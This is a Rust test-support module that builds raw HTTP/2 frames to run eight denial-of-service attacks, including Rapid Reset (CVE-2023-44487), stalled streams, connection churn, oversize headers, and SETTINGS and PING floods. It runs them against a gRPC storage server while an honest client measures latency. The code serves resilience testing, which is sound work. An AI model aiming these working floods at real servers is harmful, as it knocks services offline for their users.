//! Abusive HTTP/2 clients written at the byte level (raw TCP, hand-encoded frames and HPACK), and
//! an honest Echo client beside them, for `tests/abuse.rs` and `examples/abuse.rs`. Each attack
//! runs for a time (or a count) and reports what it sent and what the server answered.

use bytes::Bytes;
use common::proto::xceiver_client_protocol_service_client::XceiverClientProtocolServiceClient as Client;
use common::proto::{ContainerCommandRequestProto, EchoRequestProto, Result as OzoneResult, Type};
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

pub use common::http2::PREFACE;
pub use common::http2::error_code::CANCEL;
pub use common::http2::flags::{ACK, END_HEADERS, END_STREAM};
pub use common::http2::frame_type::{GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE};
use common::http2::{FrameHeader, encode};

/// One frame's bytes.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(9 + payload.len());
    encode::frame(&mut f, kind, flags, stream, payload);
    f
}

/// An empty SETTINGS frame, or its ACK.
fn empty_settings(ack: bool) -> Vec<u8> {
    let mut f = Vec::with_capacity(9);
    if ack {
        encode::settings_ack(&mut f);
    } else {
        encode::settings(&mut f, &[]);
    }
    f
}

/// An HPACK string literal (no Huffman), its length an integer with a 7-bit prefix.
fn hpack_string(out: &mut Vec<u8>, s: &[u8]) {
    let mut n = s.len();
    if n < 127 {
        out.push(n as u8);
    } else {
        out.push(127);
        n -= 127;
        while n >= 128 {
            out.push((n % 128) as u8 | 0x80);
            n /= 128;
        }
        out.push(n as u8);
    }
    out.extend_from_slice(s);
}

/// The header block of a gRPC `send` call, literals without indexing (so every block decodes
/// alone); `pad` bytes of an extra `x-pad` header make it as large as wanted.
pub fn request_headers(authority: &str, pad: usize) -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    b.push(0x04); // :path, name indexed
    hpack_string(&mut b, common::proto::SEND_PATH.as_bytes());
    b.push(0x01); // :authority
    hpack_string(&mut b, authority.as_bytes());
    b.extend([0x0f, 0x10]); // content-type (static index 31)
    hpack_string(&mut b, b"application/grpc");
    b.push(0x00);
    hpack_string(&mut b, b"te");
    hpack_string(&mut b, b"trailers");
    if pad > 0 {
        b.push(0x00);
        hpack_string(&mut b, b"x-pad");
        hpack_string(&mut b, &vec![b'a'; pad]);
    }
    b
}

/// What the server sent to an attacker's connections, summed over all of them.
#[derive(Default, Debug, Clone)]
pub struct ServerAnswers {
    /// GOAWAY frames by (error code, debug data).
    pub goaways: BTreeMap<(u32, String), u64>,
    /// RST_STREAM frames by error code.
    pub resets: BTreeMap<u32, u64>,
    pub headers: u64,
    pub settings_acks: u64,
    pub ping_acks: u64,
    /// Connections the server closed (EOF or reset seen by the reader).
    pub closed: u64,
}

impl ServerAnswers {
    pub fn goaways_with(&self, code: u32) -> u64 {
        self.goaways
            .iter()
            .filter(|((c, _), _)| *c == code)
            .map(|(_, n)| n)
            .sum()
    }

    /// `CODE:debug×N` for each kind of GOAWAY, and the other answers, on one line.
    pub fn summary(&self) -> String {
        let goaways: Vec<String> = self
            .goaways
            .iter()
            .map(|((code, debug), n)| format!("{code}:{debug}x{n}"))
            .collect();
        let resets: Vec<String> = self
            .resets
            .iter()
            .map(|(c, n)| format!("{c}x{n}"))
            .collect();
        format!(
            "goaway[{}] rst[{}] headers={} settings_acks={} ping_acks={} closed={}",
            goaways.join(","),
            resets.join(","),
            self.headers,
            self.settings_acks,
            self.ping_acks,
            self.closed
        )
    }
}

type Answers = Arc<Mutex<ServerAnswers>>;

async fn read_frame(io: &mut OwnedReadHalf) -> std::io::Result<(u8, u8, u32, Vec<u8>)> {
    let mut head = [0u8; 9];
    io.read_exact(&mut head).await?;
    let head = FrameHeader::parse(&head);
    let mut payload = vec![0u8; head.len() as usize];
    io.read_exact(&mut payload).await?;
    Ok((head.kind(), head.flags(), head.stream_id(), payload))
}

fn tally(answers: &Answers, kind: u8, flags: u8, payload: &[u8]) {
    let mut a = answers.lock().unwrap();
    match kind {
        GOAWAY if payload.len() >= 8 => {
            let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
            let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
            *a.goaways.entry((code, debug)).or_default() += 1;
        }
        RST_STREAM if payload.len() >= 4 => {
            let code = u32::from_be_bytes(payload[..4].try_into().unwrap());
            *a.resets.entry(code).or_default() += 1;
        }
        HEADERS => a.headers += 1,
        SETTINGS if flags & ACK != 0 => a.settings_acks += 1,
        PING if flags & ACK != 0 => a.ping_acks += 1,
        _ => {}
    }
}

/// An attacker's HTTP/2 connection: the write half is the attacker's, a task reads and tallies
/// everything the server sends and sets `gone` when the server closes.
pub struct H2Conn {
    pub write: OwnedWriteHalf,
    pub gone: Arc<AtomicBool>,
    reader: tokio::task::JoinHandle<()>,
}

impl H2Conn {
    /// Connects, sends the preface and an empty SETTINGS, waits for the server's SETTINGS (and,
    /// with `wait_window`, its connection WINDOW_UPDATE), ACKs it, then reads in the background.
    pub async fn open(
        addr: SocketAddr,
        answers: &Answers,
        wait_window: bool,
    ) -> std::io::Result<Self> {
        let stream = TcpStream::connect(addr).await?;
        stream.set_nodelay(true)?;
        let (mut read, mut write) = stream.into_split();
        let mut hello = PREFACE.to_vec();
        hello.extend(empty_settings(false));
        write.write_all(&hello).await?;
        let (mut settings, mut window) = (false, !wait_window);
        while !(settings && window) {
            let (kind, flags, stream, payload) = read_frame(&mut read).await?;
            match kind {
                SETTINGS if flags & ACK == 0 => {
                    settings = true;
                    write.write_all(&empty_settings(true)).await?;
                }
                WINDOW_UPDATE if stream == 0 => window = true,
                _ => tally(answers, kind, flags, &payload),
            }
        }
        let gone = Arc::new(AtomicBool::new(false));
        let reader = {
            let (answers, gone) = (Arc::clone(answers), Arc::clone(&gone));
            tokio::spawn(async move {
                while let Ok((kind, flags, _, payload)) = read_frame(&mut read).await {
                    tally(&answers, kind, flags, &payload);
                }
                answers.lock().unwrap().closed += 1;
                gone.store(true, Relaxed);
            })
        };
        Ok(Self {
            write,
            gone,
            reader,
        })
    }

    pub fn is_gone(&self) -> bool {
        self.gone.load(Relaxed)
    }

    /// Waits (up to `limit`) for the server to close the connection; whether it did.
    pub async fn closed_within(&mut self, limit: Duration) -> bool {
        tokio::time::timeout(limit, &mut self.reader).await.is_ok()
    }
}

impl Drop for H2Conn {
    fn drop(&mut self) {
        self.reader.abort();
    }
}

/// The attacks the abuse tests and `scripts/abuse.sh` run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// HEADERS then RST_STREAM CANCEL, in a loop (CVE-2023-44487).
    RapidReset,
    /// Streams opened (HEADERS, no END_STREAM) and never finished.
    StalledStreams,
    /// A gRPC message announcing 4 MiB (a 4 MB WriteChunk) of which 1 MiB is sent, then nothing.
    StalledBody,
    /// Connections opened and dropped, a few hundred at a time (half after the preface).
    ConnectionChurn,
    /// Requests whose header list is 16 KiB, twice the limit.
    OversizeHeaders,
    /// SETTINGS frames in a loop.
    SettingsFlood,
    /// PING frames in a loop.
    PingFlood,
    /// Garbage bytes instead of the client preface (never starting as a TLS record does).
    BadPreface,
}

pub const ALL: [Attack; 8] = [
    Attack::RapidReset,
    Attack::StalledStreams,
    Attack::StalledBody,
    Attack::ConnectionChurn,
    Attack::OversizeHeaders,
    Attack::SettingsFlood,
    Attack::PingFlood,
    Attack::BadPreface,
];

impl Attack {
    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid-reset",
            Attack::StalledStreams => "stalled-streams",
            Attack::StalledBody => "stalled-body",
            Attack::ConnectionChurn => "connection-churn",
            Attack::OversizeHeaders => "oversize-headers",
            Attack::SettingsFlood => "settings-flood",
            Attack::PingFlood => "ping-flood",
            Attack::BadPreface => "bad-preface",
        }
    }

    pub fn parse(name: &str) -> Option<Attack> {
        ALL.into_iter().find(|a| a.name() == name)
    }

    /// What the attack's rate counts.
    pub fn unit(self) -> &'static str {
        match self {
            Attack::RapidReset => "resets",
            Attack::StalledStreams | Attack::StalledBody => "streams",
            Attack::ConnectionChurn | Attack::BadPreface => "connections",
            Attack::OversizeHeaders => "requests",
            Attack::SettingsFlood => "settings",
            Attack::PingFlood => "pings",
        }
    }
}

/// How big an attack is.
#[derive(Clone, Copy, Debug)]
pub struct AttackSize {
    /// How long the flooding attacks run; the stalling ones hold their streams this long.
    pub duration: Duration,
    /// Connections of the stalling attacks.
    pub connections: usize,
    /// Streams per connection of the stalling attacks.
    pub streams_per_connection: usize,
    /// Connections the churn opens in all, and how many at a time.
    pub churn_total: usize,
    pub churn_concurrency: usize,
}

/// What an attack did.
#[derive(Debug, Clone)]
pub struct AttackReport {
    pub attack: Attack,
    /// Units sent (see [`Attack::unit`]).
    pub units: u64,
    pub elapsed: Duration,
    /// Connections the attacker opened.
    pub connections: u64,
    pub answers: ServerAnswers,
}

impl AttackReport {
    pub fn rate(&self) -> f64 {
        self.units as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// Runs one attack against `addr` and reports it.
pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackReport {
    let answers: Answers = Arc::default();
    let units = Arc::new(AtomicU64::new(0));
    let connections = Arc::new(AtomicU64::new(0));
    let start = Instant::now();
    let deadline = start + size.duration;
    match attack {
        Attack::RapidReset => {
            let batch = |first: u32| {
                let mut bytes = Vec::new();
                let block = request_headers(&addr.to_string(), 0);
                for id in (first..).step_by(2).take(100) {
                    bytes.extend(frame(HEADERS, END_HEADERS, id, &block));
                    encode::rst_stream(&mut bytes, id, CANCEL);
                }
                bytes
            };
            flood(addr, &answers, &units, &connections, deadline, 100, batch).await;
        }
        Attack::OversizeHeaders => {
            let block = request_headers(&addr.to_string(), 16 << 10);
            let batch = move |first: u32| {
                let mut bytes = Vec::new();
                for id in (first..).step_by(2).take(20) {
                    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, &block));
                }
                bytes
            };
            flood(addr, &answers, &units, &connections, deadline, 20, batch).await;
        }
        Attack::SettingsFlood => {
            // INITIAL_WINDOW_SIZE = 65,535: valid, and it makes the server revisit every stream.
            let mut one = Vec::new();
            encode::settings(
                &mut one,
                &[(common::http2::setting::INITIAL_WINDOW_SIZE, 65_535)],
            );
            let bytes = one.repeat(100);
            flood(
                addr,
                &answers,
                &units,
                &connections,
                deadline,
                100,
                move |_| bytes.clone(),
            )
            .await;
        }
        Attack::PingFlood => {
            let mut one = Vec::new();
            encode::ping(&mut one, false, &[0x5a; 8]);
            let bytes = one.repeat(100);
            flood(
                addr,
                &answers,
                &units,
                &connections,
                deadline,
                100,
                move |_| bytes.clone(),
            )
            .await;
        }
        Attack::StalledStreams | Attack::StalledBody => {
            let body = attack == Attack::StalledBody;
            let mut held = Vec::new();
            for _ in 0..size.connections {
                let Ok(mut conn) = H2Conn::open(addr, &answers, body).await else {
                    continue;
                };
                connections.fetch_add(1, Relaxed);
                let block = request_headers(&addr.to_string(), 0);
                for s in 0..size.streams_per_connection {
                    let id = 1 + 2 * s as u32;
                    let mut bytes = frame(HEADERS, END_HEADERS, id, &block);
                    if body {
                        // The gRPC prefix of a 4 MiB message, then its first 1 MiB (less the
                        // prefix), in 16 KiB frames as a Java client sends them.
                        let mut data = vec![0u8];
                        data.extend((4u32 << 20).to_be_bytes());
                        data.resize(1 << 20, 0x77);
                        for piece in data.chunks(16 << 10) {
                            encode::data(&mut bytes, id, false, piece);
                        }
                    }
                    if conn.write.write_all(&bytes).await.is_err() {
                        break;
                    }
                    units.fetch_add(1, Relaxed);
                }
                held.push(conn);
            }
            tokio::time::sleep_until(deadline.into()).await;
            drop(held);
        }
        Attack::ConnectionChurn => {
            let next = Arc::new(AtomicU64::new(0));
            let mut tasks = Vec::new();
            for _ in 0..size.churn_concurrency {
                let (next, units, connections) = (
                    Arc::clone(&next),
                    Arc::clone(&units),
                    Arc::clone(&connections),
                );
                let total = size.churn_total as u64;
                tasks.push(tokio::spawn(async move {
                    loop {
                        let i = next.fetch_add(1, Relaxed);
                        if i >= total {
                            break;
                        }
                        let Ok(mut stream) = TcpStream::connect(addr).await else {
                            continue;
                        };
                        connections.fetch_add(1, Relaxed);
                        if i % 2 == 0 {
                            let mut hello = PREFACE.to_vec();
                            hello.extend(empty_settings(false));
                            let _ = stream.write_all(&hello).await;
                        }
                        units.fetch_add(1, Relaxed);
                        drop(stream);
                    }
                }));
            }
            for t in tasks {
                let _ = t.await;
            }
        }
        Attack::BadPreface => {
            let mut tasks = Vec::new();
            for worker in 0..16u64 {
                let (units, connections, answers) = (
                    Arc::clone(&units),
                    Arc::clone(&connections),
                    Arc::clone(&answers),
                );
                tasks.push(tokio::spawn(async move {
                    let mut garbage = [0u8; 64];
                    let mut x = 0x9e37_79b9_7f4a_7c15u64 ^ worker;
                    while Instant::now() < deadline {
                        for b in &mut garbage {
                            x ^= x << 13;
                            x ^= x >> 7;
                            x ^= x << 17;
                            *b = x as u8;
                        }
                        // Not a TLS record's first byte, which dn-sim's tap takes for a TLS
                        // client and leaves to h2 (which closes it all the same).
                        if garbage[0] == 0x16 {
                            garbage[0] = 0;
                        }
                        let Ok(mut stream) = TcpStream::connect(addr).await else {
                            continue;
                        };
                        connections.fetch_add(1, Relaxed);
                        if stream.write_all(&garbage).await.is_err() {
                            continue;
                        }
                        units.fetch_add(1, Relaxed);
                        let mut sink = Vec::new();
                        let read = tokio::time::timeout(
                            Duration::from_secs(5),
                            stream.read_to_end(&mut sink),
                        );
                        if read.await.is_ok() {
                            answers.lock().unwrap().closed += 1;
                        }
                    }
                }));
            }
            for t in tasks {
                let _ = t.await;
            }
        }
    }
    let report = answers.lock().unwrap().clone();
    AttackReport {
        attack,
        units: units.load(Relaxed),
        elapsed: start.elapsed(),
        connections: connections.load(Relaxed),
        answers: report,
    }
}

/// Writes `batch(first stream ID)` (worth `per_batch` units) on a connection until `deadline`,
/// opening a new connection whenever the server closes one.
async fn flood(
    addr: SocketAddr,
    answers: &Answers,
    units: &AtomicU64,
    connections: &AtomicU64,
    deadline: Instant,
    per_batch: u64,
    batch: impl Fn(u32) -> Vec<u8>,
) {
    while Instant::now() < deadline {
        let Ok(mut conn) = H2Conn::open(addr, answers, false).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        connections.fetch_add(1, Relaxed);
        let mut next_id = 1u32;
        while Instant::now() < deadline && !conn.is_gone() {
            let bytes = batch(next_id);
            next_id += 2 * per_batch as u32;
            let write = tokio::time::timeout_at(deadline.into(), conn.write.write_all(&bytes));
            match write.await {
                Ok(Ok(())) => units.fetch_add(per_batch, Relaxed),
                _ => break,
            };
            if next_id > 1 << 30 {
                break;
            }
        }
        // Let the reader take what the server sent last (a GOAWAY) before the next connection.
        let _ = conn.closed_within(Duration::from_millis(50)).await;
    }
}

/// The honest client's calls over one period.
#[derive(Debug, Clone, Default)]
pub struct HonestReport {
    pub ok: u64,
    pub failed: u64,
    pub latencies: Vec<Duration>,
    pub elapsed: Duration,
}

impl HonestReport {
    fn quantile(&self, q: f64) -> Duration {
        let mut sorted = self.latencies.clone();
        sorted.sort();
        if sorted.is_empty() {
            return Duration::ZERO;
        }
        sorted[((sorted.len() - 1) as f64 * q).round() as usize]
    }
    pub fn p50(&self) -> Duration {
        self.quantile(0.5)
    }
    pub fn p99(&self) -> Duration {
        self.quantile(0.99)
    }
    pub fn max(&self) -> Duration {
        self.quantile(1.0)
    }
    /// Answered calls per second.
    pub fn rate(&self) -> f64 {
        self.ok as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
    pub fn summary(&self) -> String {
        format!(
            "{} ok, {} failed, {:.0}/s, p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms",
            self.ok,
            self.failed,
            self.rate(),
            ms(self.p50()),
            ms(self.p99()),
            ms(self.max())
        )
    }
}

pub fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

/// An Echo request on container 1 (which dn-sim creates at start).
pub fn echo() -> ContainerCommandRequestProto {
    ContainerCommandRequestProto {
        cmd_type: Type::Echo as i32,
        container_id: 1,
        datanode_uuid: "honest-client".into(),
        echo: Some(EchoRequestProto {
            payload: Some(Bytes::from_static(b"honest")),
            payload_size_resp: Some(16),
            read_only: Some(true),
            ..Default::default()
        }),
        ..Default::default()
    }
}

/// An honest client on a runtime and thread of its own (so an attacker in the same process
/// does not delay it): one Echo at a time, each on a new stream of one tonic channel, until
/// `stop`; then the calls of each period between the `mark`s.
pub struct HonestClient {
    stop: Arc<AtomicBool>,
    marks: Arc<Mutex<Vec<HonestReport>>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl HonestClient {
    pub fn start(addr: SocketAddr) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let marks: Arc<Mutex<Vec<HonestReport>>> =
            Arc::new(Mutex::new(vec![HonestReport::default()]));
        let thread = {
            let (stop, marks) = (Arc::clone(&stop), Arc::clone(&marks));
            std::thread::spawn(move || {
                let rt = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                    .unwrap();
                rt.block_on(async move {
                    let channel = tonic::transport::Channel::from_shared(format!("http://{addr}"))
                        .unwrap()
                        .connect_timeout(Duration::from_secs(5))
                        .connect_lazy();
                    let mut client = Client::new(channel);
                    let mut period_start = Instant::now();
                    let mut periods = 1;
                    while !stop.load(Relaxed) {
                        let t = Instant::now();
                        let call = async {
                            let mut inbound =
                                client.send(tokio_stream::once(echo())).await?.into_inner();
                            inbound.message().await
                        };
                        let answer = tokio::time::timeout(Duration::from_secs(10), call).await;
                        let latency = t.elapsed();
                        let mut m = marks.lock().unwrap();
                        if m.len() > periods {
                            // A mark: close the period.
                            m[periods - 1].elapsed = t - period_start;
                            period_start = t;
                            periods = m.len();
                        }
                        let current = &mut m[periods - 1];
                        match answer {
                            Ok(Ok(Some(r))) if r.result == OzoneResult::Success as i32 => {
                                current.ok += 1;
                                current.latencies.push(latency);
                            }
                            _ => current.failed += 1,
                        }
                    }
                    let mut m = marks.lock().unwrap();
                    let n = m.len();
                    m[n - 1].elapsed = period_start.elapsed();
                });
            })
        };
        Self {
            stop,
            marks,
            thread: Some(thread),
        }
    }

    /// Starts a new period (the current one ends with the next call).
    pub fn mark(&self) {
        self.marks.lock().unwrap().push(HonestReport::default());
    }

    /// Stops the client; each period's report, in order.
    pub fn finish(mut self) -> Vec<HonestReport> {
        self.stop.store(true, Relaxed);
        if let Some(t) = self.thread.take() {
            t.join().unwrap();
        }
        std::mem::take(&mut *self.marks.lock().unwrap())
    }
}
